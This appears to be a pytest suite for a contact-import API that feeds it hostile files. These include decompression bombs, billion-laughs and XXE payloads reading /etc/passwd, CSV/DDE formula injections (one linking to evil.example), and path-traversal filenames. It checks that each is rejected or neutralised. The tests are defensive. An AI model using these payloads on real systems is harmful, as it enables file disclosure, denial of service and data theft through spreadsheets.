"""Hostile import files over HTTP (issue #7): each gets a clear 4xx, and nothing is stored that is not reported.

Every rejected upload is checked three ways: the status and the JSON error naming the
problem; the account has no contacts; and no import job (nor a queued upload, nor a
temporary file) was left behind. Accepted files are checked the other way round: the
answer's counts equal the job's counts and the contacts stored.
"""

from __future__ import annotations

import csv
import io
import random
import re
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest

from tests.import_samples import _MAIN, _PARTS, contact_rows
from tests.support import AccountClient, Service
from tests.waits import wait_until

MiB = 1024 * 1024


# -- helpers ----------------------------------------------------------------------------------

@pytest.fixture(autouse=True)
def private_tempdir(tmp_path: Path) -> Iterator[Path]:
    """Uploads spool to a directory of this test's own, so a file left behind is seen."""
    spool = tmp_path / "spool"
    spool.mkdir()
    saved, tempfile.tempdir = tempfile.tempdir, str(spool)
    try:
        yield spool
    finally:
        tempfile.tempdir = saved


def post(api: AccountClient, content: bytes, name: str = "contacts.csv", *, asynchronous: bool = False):
    headers = {"Prefer": "respond-async"} if asynchronous else {}
    return api.post("/api/v1/contacts/import", files={"file": (name, content, "application/octet-stream")},
                    headers=headers)


def jobs(service: Service, api: AccountClient) -> list[dict]:
    """Every import job of the account, from the read table, once no upload of it is queued.

    A queued job's end is stored (and may be projected by the worker's own loop) a moment
    before its upload is deleted, so the queue is given a few seconds to drain.
    """
    with service.container.pool.connection() as conn:
        wait_until(lambda: conn.execute("SELECT count(*) FROM import_queue WHERE account_id = %s",
                                        (api.account_id,)).fetchone()[0] == 0, "no upload is left in the queue", 10)
        rows = conn.execute("SELECT id, status, rows_read, imported, valid, invalid, skipped, error FROM imports"
                            " WHERE account_id = %s", (api.account_id,)).fetchall()
    keys = ("id", "status", "rows", "imported", "valid", "invalid", "skipped", "error")
    return [dict(zip(keys, row)) for row in rows]


def contacts(api: AccountClient) -> list[dict]:
    body = api.get("/api/v1/contacts", params={"pageSize": 100}).json()
    assert body["total"] == len(body["contacts"]) or body["total"] > 100
    return body["contacts"]


def total(api: AccountClient) -> int:
    return api.get("/api/v1/contacts").json()["total"]


def assert_rejected(service: Service, api: AccountClient, spool: Path, response, status: int, error: str,
                    *words: str) -> dict:
    """A clear 4xx naming the problem, and nothing stored: no contact, no job, no file left."""
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert (body["status"], body["error"]) == (status, error), body
    for word in words:
        assert word in body["message"], body["message"][:500]
    assert len(response.content) < 64 * 1024, "the error echoes the file back"
    assert total(api) == 0
    assert jobs(service, api) == []
    assert list(spool.iterdir()) == []
    return body


def assert_failed_storing_nothing(service: Service, api: AccountClient, spool: Path, response, *words: str,
                                  asynchronous: bool = False) -> None:
    """A problem found while reading rows: the import is failed, says why, and reports the nothing it stored."""
    counts, message = failed_import(api, response, asynchronous)
    for word in words:
        assert word in message, message[:500]
    assert counts == {"rows": 0, "imported": 0, "valid": 0, "invalid": 0, "skipped": 0}
    [stored] = jobs(service, api)
    assert stored["status"] == "failed" and {k: stored[k] for k in counts} == counts
    assert total(api) == 0
    assert list(spool.iterdir()) == []


def failed_import(api: AccountClient, response, asynchronous: bool) -> tuple[dict, str]:
    """The counts and message of an import that failed part-way (the 422 body, or the async job)."""
    if asynchronous:
        assert response.status_code == 202, response.text[:500]
        job = wait_for_job(api, response.json()["id"])
        return job["counts"], job["error"]
    assert response.status_code == 422, response.text[:500]
    body = response.json()
    assert body["error"] == "import_failed", body
    return {k: body[k] for k in ("rows", "imported", "valid", "invalid", "skipped")}, body["message"]


def wait_for_job(api: AccountClient, import_id: str, timeout: float = 120) -> dict:
    return api.wait_for_job(f"/api/v1/contacts/imports/{import_id}", timeout)


def assert_reported(service: Service, api: AccountClient, spool: Path, response, *,
                    asynchronous: bool = False) -> dict:
    """An accepted file: the counts answered (or the async job's) are exactly what was stored."""
    if asynchronous:
        assert response.status_code == 202, response.text[:500]
        job = wait_for_job(api, response.json()["id"])
        assert job["status"] == "completed", job
        counts = job["counts"]
    else:
        assert response.status_code == 201, response.text[:500]
        counts = {k: response.json()[k] for k in ("rows", "imported", "valid", "invalid", "skipped")}
    [stored] = jobs(service, api)
    assert {k: stored[k] for k in counts} == counts and stored["status"] == "completed"
    assert counts["imported"] == counts["valid"] + counts["invalid"]
    assert counts["imported"] + counts["skipped"] == counts["rows"]
    assert total(api) == counts["imported"]
    assert list(spool.iterdir()) == []
    return counts


def report(api: AccountClient, import_id: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(api.get(f"/api/v1/contacts/imports/{import_id}/report.csv").text)))


def _status_kib(field: str) -> int:
    return int(re.search(rf"{field}:\s+(\d+) kB", Path("/proc/self/status").read_text()).group(1))


@contextmanager
def bounded(max_mib: int, max_seconds: float) -> Iterator[None]:
    """Fail if the process's peak memory grows by more than ``max_mib`` or the block takes too long.

    The app runs in this process, so its peak resident size (VmHWM, reset first) is the app's.
    """
    Path("/proc/self/clear_refs").write_text("5")  # reset the peak to the current size
    before, started = _status_kib("VmRSS"), time.monotonic()
    yield
    elapsed, grown = time.monotonic() - started, (_status_kib("VmHWM") - before) // 1024
    assert grown < max_mib, f"peak memory grew by {grown} MiB"
    assert elapsed < max_seconds, f"took {elapsed:.1f} s"


# -- files ------------------------------------------------------------------------------------

def xlsx(sheet: Callable[[], Iterable[bytes]], parts: dict[str, Callable[[], Iterable[bytes]]] | None = None) -> bytes:
    """A workbook whose first sheet (and optionally other parts) is streamed from ``sheet``."""
    parts = {"xl/sharedStrings.xml": lambda: [f'<sst xmlns="{_MAIN}"/>'.encode()], **(parts or {})}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, xml in _PARTS.items():
            archive.writestr(name, xml)
        for name, chunks in {**parts, "xl/worksheets/sheet1.xml": sheet}.items():
            with archive.open(name, "w", force_zip64=True) as member:
                for chunk in chunks():
                    member.write(chunk)
    return buffer.getvalue()


SHEET_HEAD = f'<worksheet xmlns="{_MAIN}"><sheetData>'.encode()
SHEET_TAIL = b"</sheetData></worksheet>"
PHONE_HEADER = b'<row r="1"><c t="inlineStr"><is><t>phone</t></is></c></row>'


def sheet_of(*middle: bytes, repeat: bytes = b"", times: int = 0) -> Callable[[], Iterator[bytes]]:
    def chunks() -> Iterator[bytes]:
        yield SHEET_HEAD + PHONE_HEADER
        yield from middle[:1]
        block = repeat * 4096
        for _ in range(times // 4096):
            yield block
        yield repeat * (times % 4096)
        yield from middle[1:]
        yield SHEET_TAIL
    return chunks


def good_xlsx(rows: int = 200) -> bytes:
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    for row in [("first_name", "last_name", "phone", "email", "tags", "notes"), *contact_rows(rows)]:
        book.active.append(row)
    book.save(buffer)
    return buffer.getvalue()


def zip_of(**members: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name.replace("__", "/"), text)
    return buffer.getvalue()


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
GOOD_CSV = "phone,first_name\n0712000001,Zoë\n0712000002,José\n"
UTF8_ROWS = "".join(f"07120{n:05d},Zoë{n}\n" for n in range(100))
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lolololololololololo">'
          + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
          + f']><worksheet xmlns="{_MAIN}"><sheetData>').encode()

# id -> (file, filename, status, error code, words the message must hold)
REJECTED: dict[str, tuple[Callable[[], bytes], str, int, str, tuple[str, ...]]] = {
    "empty file": (lambda: b"", "contacts.csv", 422, "invalid_file", ("empty",)),
    "blank lines only": (lambda: b"\r\n  \n\t\n", "contacts.csv", 422, "invalid_file", ("no header row",)),
    "random bytes": (lambda: random.Random(7).randbytes(100_000), "contacts.csv", 415, "unsupported_file",
                     ("binary data", "accepted: a CSV file")),
    "PNG image": (lambda: PNG, "contacts.csv", 415, "unsupported_file", ("a PNG image",)),
    "PDF document": (lambda: PDF, "contacts.xlsx", 415, "unsupported_file", ("a PDF document",)),
    "NUL-filled file": (lambda: bytes(200_000), "contacts.csv", 415, "unsupported_file", ("binary data",)),
    "NUL byte after the first 64 KiB": (lambda: (("phone,first_name\n" + "0712000001,Jane\n" * 5000).encode()
                                                + b"0712000002,Jo\x00hn\n"),
                                        "contacts.csv", 422, "invalid_file", ("NUL", "line 5002")),
    "truncated XLSX": (lambda: good_xlsx()[: len(good_xlsx()) // 2], "contacts.xlsx", 422, "invalid_file",
                       ("corrupt",)),
    "ZIP that is not a workbook": (lambda: zip_of(contacts__csv=GOOD_CSV), "contacts.xlsx", 415,
                                   "unsupported_file", ("ZIP archive",)),
    "Word document": (lambda: zip_of(word__document__xml="<w/>"), "contacts.xlsx", 415, "unsupported_file",
                      ("Word document",)),
    "1 MB line without a newline": (lambda: b"phone,notes," + b"x" * MiB, "contacts.csv", 422, "invalid_file",
                                    ("line 1 is too long",)),
    # Found while reading rows, so an import was started: it fails, having stored nothing.
    "quote never closed": (lambda: b'phone,notes\n0712000001,"' + b"many lines\n" * 120_000, "contacts.csv",
                           422, "import_failed", ("record from line 2", "too long", "quote left open")),
    "UTF-16 with BOM": (lambda: GOOD_CSV.encode("utf-16"), "contacts.csv", 415, "unsupported_file",
                        ("UTF-16", "CSV UTF-8")),
    "UTF-16LE without BOM": (lambda: GOOD_CSV.encode("utf-16-le"), "contacts.csv", 415, "unsupported_file",
                             ("UTF-16", "CSV UTF-8")),
    "UTF-16BE without BOM": (lambda: GOOD_CSV.encode("utf-16-be"), "contacts.csv", 415, "unsupported_file",
                             ("UTF-16", "CSV UTF-8")),
    "UTF-8 mixed with invalid bytes": (lambda: f"phone,first_name\n{UTF8_ROWS}".encode() + b"0712999999,Ren\xe9\n",
                                       "contacts.csv", 422, "invalid_file", ("UTF-8", "line 102")),
    "UTF-8 BOM then invalid bytes": (lambda: "\ufeffphone\n0712000001\n".encode() + b"0712000002,\xff\n",
                                     "contacts.csv", 422, "invalid_file", ("UTF-8", "line 3")),
    "bytes Windows-1252 leaves undefined": (lambda: b"phone,first_name\n0712000001,Ren\xe9\n0712000002,\x81x\n",
                                            "contacts.csv", 422, "invalid_file",
                                            ("neither UTF-8 nor Windows-1252", "0x81", "line 3")),
    "10,000 columns (CSV)": (lambda: ("phone," + ",".join(f"c{n}" for n in range(9_999)) + "\n1\n").encode(),
                             "contacts.csv", 422, "invalid_file", ("10000 columns", "at most 200")),
    "10,000 columns (XLSX)": (lambda: xlsx(lambda: [SHEET_HEAD, b'<row r="1">',
                                                    b'<c t="inlineStr"><is><t>c</t></is></c>' * 10_000,
                                                    b"</row>", SHEET_TAIL]),
                              "contacts.xlsx", 422, "invalid_file", ("10000 columns", "at most 200")),
    "row numbered two billion (XLSX)": (lambda: xlsx(sheet_of(b'<row r="2000000000"><c t="inlineStr"><is><t>'
                                                              b'0712000001</t></is></c></row>')),
                                        "contacts.xlsx", 422, "invalid_file",
                                        ("row number 2000000000", "1,048,576")),
    "no phone column": (lambda: b"name,city\nJohn,Nairobi\n", "contacts.csv", 422, "invalid_file",
                        ("no phone column", "'name', 'city'")),
    "rows out of order (XLSX)": (lambda: xlsx(sheet_of(b'<row r="5"><c t="inlineStr"><is><t>0712000001</t></is>'
                                                       b'</c></row><row r="3"><c t="inlineStr"><is><t>0712000002'
                                                       b'</t></is></c></row>')),
                                 "contacts.xlsx", 422, "invalid_file", ("row 3 after row 5",)),
    "DTD with nested entities (billion laughs)": (
        lambda: xlsx(lambda: [LAUGHS, b'<row r="1"><c t="inlineStr"><is><t>&lol9;</t></is></c></row>',
                              SHEET_TAIL]),
        "contacts.xlsx", 422, "invalid_file", ("DTD",)),
    "external entity (XXE)": (
        lambda: xlsx(lambda: [b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                              SHEET_HEAD, b'<row r="1"><c t="inlineStr"><is><t>phone</t></is></c></row>'
                              b'<row r="2"><c t="inlineStr"><is><t>&x;</t></is></c></row>', SHEET_TAIL]),
        "contacts.xlsx", 422, "invalid_file", ("DTD",)),
}


@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "respond-async"])
@pytest.mark.parametrize("case", list(REJECTED))
def test_hostile_file_is_a_clear_4xx_and_stores_nothing(service: Service, private_tempdir: Path, case: str,
                                                        asynchronous: bool) -> None:
    make, name, status, error, words = REJECTED[case]
    api = service.client()
    with bounded(max_mib=150, max_seconds=20):
        response = post(api, make(), name, asynchronous=asynchronous)
    if error == "import_failed":
        assert_failed_storing_nothing(service, api, private_tempdir, response, *words, asynchronous=asynchronous)
    else:
        assert_rejected(service, api, private_tempdir, response, status, error, *words)


# -- decompression bombs: small on disk, huge when inflated -------------------------------------

BOMBS: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
    # 300 MB of one repeated cell, deflated to about 0.3 MB.
    "one cell repeated to 300 MB": (lambda: xlsx(sheet_of(repeat=b'<row><c t="inlineStr"><is><t>0712000001'
                                                                 b'</t></is></c></row>', times=5_500_000)),
                                    ("expands to", "at most 209,715,200")),
    # Under every size check (9 MB inflated, 10 KB on disk), but 2.3 million cells in one row.
    "one row of 2.3 million empty cells": (lambda: xlsx(sheet_of(b'<row r="2">', b"</row>", repeat=b"<c/>",
                                                                 times=2_300_000)),
                                           ("row 2", "cells")),
    # 1.5 million empty rows: past Excel's 1,048,576.
    "1.5 million rows": (lambda: xlsx(sheet_of(repeat=b"<row/>", times=1_500_000)), ("rows", "1,048,576")),
    # 21 MB of rows carrying 17 attributes each (5 MB on disk), which openpyxl keeps for every row.
    "rows with many attributes": (lambda: xlsx(lambda: [SHEET_HEAD, PHONE_HEADER, *(
        b"".join(b"<row " + b" ".join(b'a%d="%d"' % (i, n) for i in range(16)) + b' ht="15"/>'
                 for n in range(start, start + 1000)) for start in range(0, 130_000, 1000)), SHEET_TAIL]),
                                  ("attributes on its rows",)),
    # A style sheet that openpyxl would build in memory whole: 9 MB, 450,000 elements.
    "styles.xml of 450,000 elements": (
        lambda: xlsx(sheet_of(), {"xl/styles.xml": lambda: [f'<styleSheet xmlns="{_MAIN}"><cellXfs>'.encode(),
                                                            *(b'<xf numFmtId="%d"/>' % (n % 1000)
                                                              for n in range(450_000)),
                                                            b"</cellXfs></styleSheet>"]}),
        ("xl/styles.xml", "elements")),
}


@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "respond-async"])
@pytest.mark.parametrize("case", list(BOMBS))
def test_decompression_bombs_are_refused_quickly_in_bounded_memory(service: Service, private_tempdir: Path,
                                                                   case: str, asynchronous: bool) -> None:
    make, words = BOMBS[case]
    content = make()
    assert len(content) < 6 * MiB
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert sum(member.file_size for member in archive.infolist()) > 8 * MiB
    api = service.client()
    with bounded(max_mib=100, max_seconds=15):
        response = post(api, content, "contacts.xlsx", asynchronous=asynchronous)
    assert_rejected(service, api, private_tempdir, response, 422, "invalid_file", *words)


def test_a_zip_of_300000_members_is_refused_before_its_directory_is_read(service: Service,
                                                                          private_tempdir: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for n in range(300_000):
            archive.writestr(f"{n:x}", b"")
    api = service.client()
    with bounded(max_mib=100, max_seconds=15):
        response = post(api, buffer.getvalue(), "contacts.xlsx")
    assert_rejected(service, api, private_tempdir, response, 422, "invalid_file", "300,001 members")


MALFORMED_BODIES = {
    "cut short before the closing boundary": b'--B\r\nContent-Disposition: form-data; name="file"; '
                                             b'filename="c.csv"\r\n\r\nphone\n0712000001\n0712000002',
    "a part header over the parser's limit": b'--B\r\nContent-Disposition: form-data; name="file"; filename="'
                                             + b"x" * 20_000 + b'"\r\n\r\nphone\n0712000001\r\n--B--\r\n',
    "a boundary too long to be one": b"--" + b"B" * 100 + b"\r\n",
}


@pytest.mark.parametrize("case", list(MALFORMED_BODIES))
def test_malformed_multipart_is_a_400_and_stores_nothing(service: Service, private_tempdir: Path, case: str) -> None:
    api = service.client()
    boundary = "B" * 100 if "boundary" in case else "B"
    response = api.post("/api/v1/contacts/import", content=MALFORMED_BODIES[case],
                        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    assert_rejected(service, api, private_tempdir, response, 400, "malformed_body", "multipart")


# -- accepted files: stored exactly as reported ---------------------------------------------------

@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "respond-async"])
def test_header_only_file_is_an_import_of_nothing(service: Service, private_tempdir: Path,
                                                  asynchronous: bool) -> None:
    api = service.client()
    response = post(api, b"phone,first_name,last_name\r\n", asynchronous=asynchronous)
    counts = assert_reported(service, api, private_tempdir, response, asynchronous=asynchronous)
    assert counts == {"rows": 0, "imported": 0, "valid": 0, "invalid": 0, "skipped": 0}


def test_windows_1252_names_are_decoded_not_garbled(service: Service, private_tempdir: Path) -> None:
    api = service.client()
    names = ["Zoë", "François", "Müller", "Øyvind", "Señora “Ñ”"]
    text = "first_name;phone\n" + "".join(f"{name};07120000{n:02d}\n" for n, name in enumerate(names))
    response = post(api, text.encode("cp1252"))
    assert assert_reported(service, api, private_tempdir, response)["imported"] == 5
    assert sorted(c["firstName"] for c in contacts(api)) == sorted(names)


def test_a_1_mb_cell_is_reported_as_a_skipped_row(service: Service, private_tempdir: Path) -> None:
    api = service.client()
    big = "x" * 1_000_000
    text = f"phone,first_name,notes,tags\n0712000001,Ok,,\n0712000002,Big,{big},\n{big},Phone,,\n" \
           f"0712000003,Tags,,{';'.join(f't{n}' for n in range(100_000))}\n0712000004,Tag,,{big[:100]}\n"
    response = post(api, text.encode())
    counts = assert_reported(service, api, private_tempdir, response)
    assert (counts["imported"], counts["skipped"]) == (1, 4)
    reasons = {(int(r["row"]), r["reason"]) for r in report(api, response.json()["importId"])}
    assert reasons == {(2, "field_too_long"), (3, "unparseable_phone"), (4, "field_too_long"),
                       (5, "field_too_long")}
    assert len(api.get(f"/api/v1/contacts/imports/{response.json()['importId']}/report.csv").content) < 4096
    [ok] = contacts(api)
    assert ok["firstName"] == "Ok"


CSV_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "+1+2", "-3+4", "@SUM(A1:A9)",
                "=cmd|' /C calc'!A0"]


def test_csv_formula_cells_are_stored_as_text_and_exported_neutralised(service: Service,
                                                                       private_tempdir: Path) -> None:
    api = service.client()
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["phone", "first_name", "last_name", "notes", "tags"])
    for n, formula in enumerate(CSV_FORMULAS):
        writer.writerow([f"07120000{n:02d}", formula, formula, formula, formula])
    response = post(api, buffer.getvalue().encode())
    assert assert_reported(service, api, private_tempdir, response)["imported"] == len(CSV_FORMULAS)
    stored = {c["phone"]: c for c in contacts(api)}
    for n, formula in enumerate(CSV_FORMULAS):
        contact = stored[f"+2547120000{n:02d}"]
        assert (contact["firstName"], contact["lastName"], contact["notes"]) == (formula, formula, formula)
        assert contact["tags"] == [t.strip() for t in re.split("[;,]", formula.lower())]
    exported = list(csv.reader(io.StringIO(api.get("/api/v1/contacts/export").text)))[1:]
    cells = [cell for row in exported for n, cell in enumerate(row) if n != 2]  # the phone is E.164
    assert cells and not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert {row[0] for row in exported} == {"'" + formula for formula in CSV_FORMULAS}
    again = service.client()  # the export imports back to the same values
    assert post(again, api.get("/api/v1/contacts/export").content).status_code == 201
    assert sorted(c["firstName"] for c in contacts(again)) == sorted(CSV_FORMULAS)


def test_xlsx_formulas_are_never_evaluated_by_the_importer(service: Service, private_tempdir: Path) -> None:
    """A formula gives the value the spreadsheet saved with it (what the user sees), as text; never run."""
    def cell(ref: str, inner: str, kind: str = "") -> str:
        kind_attribute = f' t="{kind}"' if kind else ""
        return f'<c r="{ref}"{kind_attribute}>{inner}</c>'

    rows = [
        ("0712000001", cell("B2", "<f>1+2</f><v>3</v>"), cell("C2", "<is><t>=1+2</t></is>", "inlineStr")),
        ("0712000002", cell("B3", "<f>HYPERLINK(\"http://evil.example\",\"click\")</f><v>click</v>", "str"),
         cell("C3", "<f>1+2</f>")),  # saved without a value: read as empty, not computed
        ("0712000003", cell("B4", "<f>\"=cmd|' /C calc'!A0\"</f><v>=cmd|' /C calc'!A0</v>", "str"),
         cell("C4", "<is><t>@SUM(A1)</t></is>", "inlineStr")),
    ]
    xml = [SHEET_HEAD, b'<row r="1"><c r="A1" t="inlineStr"><is><t>phone</t></is></c><c r="B1" t="inlineStr">'
           b'<is><t>first_name</t></is></c><c r="C1" t="inlineStr"><is><t>notes</t></is></c></row>']
    for n, (phone, first, notes) in enumerate(rows, start=2):
        xml.append(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{phone}</t></is></c>{first}{notes}</row>'
                   .encode())
    api = service.client()
    response = post(api, xlsx(lambda: [*xml, SHEET_TAIL]), "contacts.xlsx")
    assert assert_reported(service, api, private_tempdir, response)["imported"] == 3
    stored = {c["phone"]: (c["firstName"], c["notes"]) for c in contacts(api)}
    assert stored == {"+254712000001": ("3", "=1+2"), "+254712000002": ("click", None),
                      "+254712000003": ("=cmd|' /C calc'!A0", "@SUM(A1)")}
    exported = {row[2]: row for row in csv.reader(io.StringIO(api.get("/api/v1/contacts/export").text))}
    assert exported["+254712000003"][0] == "'=cmd|' /C calc'!A0"
    assert exported["+254712000001"][5] == "'=1+2"


def post_with_filename(api: AccountClient, filename: bytes, content: bytes):
    """A multipart body written by hand: clients escape odd filenames, an attacker does not."""
    boundary = "hostile-boundary"
    body = (b'--hostile-boundary\r\nContent-Disposition: form-data; name="file"; filename="' + filename
            + b'"\r\nContent-Type: text/csv\r\n\r\n' + content + b"\r\n--hostile-boundary--\r\n")
    return api.post("/api/v1/contacts/import", content=body,
                    headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})


@pytest.mark.parametrize("filename", [b"../../etc/passwd\x00.csv", "\u00e9".encode() * 2000 + b".csv",
                                      b"C:\\Users\\me\\contacts.csv", b"red\x1b[31m\x7f\x85.csv"])
def test_hostile_filenames_are_kept_as_harmless_labels(service: Service, private_tempdir: Path,
                                                       filename: bytes) -> None:
    api = service.client()
    response = post_with_filename(api, filename, b"phone\n0712000001\n")
    assert_reported(service, api, private_tempdir, response)
    label = api.get(f"/api/v1/contacts/imports/{response.json()['importId']}").json()["filename"]
    assert label and len(label) <= 255 and label.isprintable() and not {"/", "\\"} & set(label), label
    assert label.endswith(".csv") or len(label) == 255


# -- files broken part-way: what was stored is what is reported ------------------------------------

@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "respond-async"])
def test_a_file_broken_after_a_stored_batch_reports_exactly_that_batch(service: Service, private_tempdir: Path,
                                                                       asynchronous: bool) -> None:
    api = service.client()
    good = "".join(f"07170{n:05d}\n" for n in range(1500))
    content = ("phone,notes\n" + good + '0717099999,"' + "x" * (MiB + 10) + '"\n').encode()
    response = post(api, content, asynchronous=asynchronous)
    counts, error = failed_import(api, response, asynchronous)
    assert "line 1502 is too long" in error
    assert counts["imported"] == 1000 and counts["rows"] == 1000
    [stored] = jobs(service, api)
    assert stored["status"] == "failed" and {k: stored[k] for k in counts} == counts
    assert total(api) == 1000
    assert list(private_tempdir.iterdir()) == []


def test_an_xlsx_broken_after_a_stored_batch_reports_exactly_that_batch(service: Service,
                                                                       private_tempdir: Path) -> None:
    api = service.client()
    rows = [f'<row><c t="inlineStr"><is><t>07180{n:05d}</t></is></c></row>'.encode() for n in range(1200)]
    rows.append(b"<row>" + b"<c><v>1</v></c>" * 300 + b"</row>")
    response = post(api, xlsx(lambda: [SHEET_HEAD, PHONE_HEADER, *rows, SHEET_TAIL]), "contacts.xlsx")
    assert response.status_code == 422, response.text[:300]
    body = response.json()
    assert body["error"] == "import_failed" and "row 1202 has 300 columns" in body["message"]
    assert (body["imported"], body["rows"]) == (1000, 1000)
    assert total(api) == 1000
    [stored] = jobs(service, api)
    assert stored["status"] == "failed" and (stored["imported"], stored["rows"]) == (1000, 1000)
    assert list(private_tempdir.iterdir()) == []


def test_a_slow_to_sniff_header_is_answered_quickly(service: Service, private_tempdir: Path) -> None:
    """csv.Sniffer's quote regex is quadratic; the sample it is given must stay small."""
    api = service.client()
    started = time.process_time()
    response = post(api, b",'\"" * 20_000)
    assert time.process_time() - started < 1.5
    assert_rejected(service, api, private_tempdir, response, 422, "invalid_file", "columns")
